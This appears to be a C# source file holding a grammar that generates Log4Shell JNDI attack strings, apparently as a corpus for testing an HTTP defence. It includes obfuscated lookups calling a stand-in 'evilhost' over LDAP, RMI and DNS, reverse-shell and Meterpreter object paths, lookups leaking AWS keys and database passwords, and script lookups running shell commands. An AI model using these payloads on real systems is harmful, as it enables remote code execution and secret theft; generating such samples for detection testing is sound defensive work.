namespace Weir.Http.Corpus.Attacks;

/// <summary>Look-ups inside logged text: JNDI in plain and in nested spellings, and look-ups that leak values.</summary>
internal static class Log4shell
{
    public const string Text = """"
        §attack
        8× «lookup»
        2× «word?»«glue»«lookup»
        2× «around»
        2× «encoded»
        «leak»
        «unclosed»

        §glue
        «¦ ¦:¦=¦/¦,¦;»

        §lookup
        5× ${jndi:«proto»:«locator»}
        6× ${«jndi»:«protos»:«locator»}
        2× ${«jndi»«colon»«protos»«colon»«locator»}
        ${jndi:«protos»:«locator»}
        ${${«inlookup»:««rand»¦»«¦:»-«jndi»}:«proto»:«locator»}
        ${«jndi→case»:«proto→case»:«locator»}
        §colon
        2× :
        ${«inlookup»:««rand»¦»:-:}
        ${::-:}
        ${date:':'}
        §proto
        8× ldap
        3× ldaps
        4× rmi
        4× dns
        «iiop¦nis¦nds¦corba¦corbaname¦http¦https¦java»
        §protos
        2× «proto»
        ${«outward»:«proto»}
        «hideldap»
        «hidermi»
        §hideldap
        «h_l»«h_d»«h_a»«h_p»
        «h_l»dap
        l«h_d»ap
        ld«h_a»p
        «h_l»«h_d»a«h_p»
        §hidermi
        «h_r»«h_m»«h_i»
        r«h_m»i
        «h_r»mi
        §jndi
        3× «h_j»«h_n»«h_d»«h_i»
        2× «h_j»ndi
        2× j«h_n»d«h_i»
        jn«h_d»i
        jnd«h_i»
        «h_j»«h_n»di
        ${«fold»:jnd}${«fold»:i}
        ${«fold»:j«¦nd»}«h_n»«h_d»«h_i»
        jnd${«fold»:${«fold»:i}}
        jnd${upper:ı}
        ${«fold»:jndi}
        ${«outward»:jndi}
        ${env:«rand»:-j}ndi
        ${${:-«h_l»}«h_o»wer:jndi}
        §fold
        4× lower
        4× upper
        «Lower¦UPPER¦lowEr»
        §outward
        «lower¦upper¦«inlookup»:«rand»:-»
        §inlookup
        3×
        3× :
        2× env
        2× sys
        «date¦main¦k8s¦docker¦java¦log4j¦ctx¦bundle¦web¦map¦sd¦spring¦marker¦event¦base64»
        «rand»
        «rand→upper»
        env:«rand→upper»
        «word»:«word»
        §dpart
        3× ::-
        2× :-
        «inlookup»:«rand»:-
        «inlookup»:-
        §h_j
        2× ${«dpart»j}
        ${«fold»:j}
        j
        ${date:'j'}
        §h_n
        2× ${«dpart»n}
        ${«fold»:n}
        n
        ${date:'n'}
        §h_d
        2× ${«dpart»d}
        ${«fold»:d}
        d
        ${date:'d'}
        §h_i
        2× ${«dpart»i}
        ${«fold»:«i¦ı»}
        i
        ${date:'i'}
        §h_l
        2× ${«dpart»l}
        ${«fold»:l}
        l
        §h_a
        2× ${«dpart»a}
        ${«fold»:a}
        a
        §h_p
        2× ${«dpart»p}
        ${«fold»:p}
        p
        §h_r
        2× ${«dpart»r}
        ${«fold»:r}
        r
        §h_m
        2× ${«dpart»m}
        ${«fold»:m}
        m
        §h_o
        o
        ${«dpart»o}
        §locator
        6× //«authority»/«objname»
        2× //«authority»
        //${«leaked»}.«authority»/«objname»
        //«authority»/${«leaked»}
        //${hostName}.«rand».«evilhost»/«objname»
        //127.0.0.1#«evilhost»«¦:«port»»/«objname»
        //«word».${«leaked»}.«evilhost»/
        «objname»
        ${«dpart»/}/«authority»${«dpart»/}«objname»
        //«authority→urlsome»/«objname»
        §authority
        3× «evilhost»
        4× «evilhost»:«1389¦389¦1099¦636¦«port»»
        127.0.0.1:«1389¦1099¦389»
        2× «ip»:«1389¦1099¦389¦«port»»
        [«hexdigit*4»:«hexdigit*4»::«hexdigit*1-4»]:«port»
        «evilhost»:${«dpart»«port»}
        §objname
        3× «letter»
        2× «rand»
        «Exploit¦Basic/Command/Base64/«shellcmd→b64»¦TomcatBypass/Command/Base64/«shellcmd→b64»¦Deserialization/CommonsCollections«#1-9»/ReverseShell/«ip»/«port»¦o=reference¦o=tomcat¦Object¦poc¦test¦callback¦obj¦cn=«word»,dc=«word»¦#Exploit¦s2-«rand»¦«hexdigit*32»¦log4j¦TomcatBypass/Meterpreter/«ip»/«port»¦Basic/ReverseShell/«ip»/«port»»
        «word»/«word»
        §leaked
        «hostName¦env:USER¦env:HOSTNAME¦env:AWS_SECRET_ACCESS_KEY¦env:AWS_ACCESS_KEY_ID¦sys:user.name¦sys:java.version¦sys:os.name¦java:version¦java:os¦env:PATH¦env:«rand→upper»¦sys:user.home¦docker:containerId¦k8s:podName¦ctx:loginId¦env:DB_PASSWORD¦java:hw¦lower:${env:USER}¦base64:«rand→b64»»

        §around
        «word»«¦@»«word»«lookup»
        «lookup»@«evilhost»
        Mozilla/5.0 «¦(X11; Linux x86_64) »«lookup»
        «Bearer ¦Basic ¦Digest ¦OAuth »«lookup»
        {"«param»":"«lookup»"}
        "«lookup»"
        '«lookup»'
        «param»=«lookup»
        «lookup»«lookup»
        /«lookup»
        /«word»/«lookup»?«param»=«num»
        /solr/admin/«cores¦collections»?action=«lookup»
        /«websso/SAML2/SSO/«rand»¦api/geojson¦login¦hyperion/login»?«param»=«lookup»
        <«word»>«lookup»</«word»>
        X-Api-Version: «lookup»
        «rand»; «param»=«lookup»
        «word»+«lookup»@«evilhost»
        https://«evilhost»/«lookup»
        («lookup»)

        §leak
        3× ${«leaked»}
        ${jndi:dns://${«leaked»}.«evilhost»}
        ${${«outward»:«fold»}:«leaked»}
        ${«inlookup»:${«leaked»}:-«rand»}
        ${bundle:application:«spring.datasource.password¦db.password¦«word».secret»}
        ${script:«javascript¦js¦groovy¦jexl»:«java.lang.Runtime.getRuntime().exec('«shellcmd»')¦new java.lang.ProcessBuilder['(java.lang.String[])'](['«shellcmd»']).start()¦7*7»}
        ${«url:UTF-8¦dns»:««evilhost»¦http://«evilhost»/»}
        ${url:UTF-8:«evilurl»}
        ${dns:address|«evilhost»}
        ${const:java.lang.Runtime.«rand»}
        ${file:UTF-8:«unixfile»}
        ${xml:«unixfile»:/«word»}
        ${${::-${::-$${::-«letter»}}}}
        ${${:-${:-«rand»}}${:-${jndi}}}

        §unclosed
        ${jndi:«proto»:«locator»
        ${«jndi»:«protos»:«locator»
        ${jndi:«proto»
        $%7Bjndi:«proto»:«locator»%7D
        $\{jndi:«proto»:«locator»\}
        $ {jndi:«proto»:«locator»}
        %{jndi:«proto»:«locator»}
        #{jndi:«proto»:«locator»}
        $${jndi:«proto»:«locator»}
        «jndi:¦»«proto»:«locator»}

        §encoded
        2× «lookup→url»
        2× «lookup→urllower»
        «lookup→urltwice»
        «lookup→urlsome»
        ${jndi:«proto→slashu»:«locator»}
        \u0024\u007bjndi:«proto»:«locator»\u007d
        «lookup→slashusome»
        «lookup→b64»
        «lookup→entsome»
        $%7b«jndi→url»:«proto»:«locator→url»%7d
        """";
}
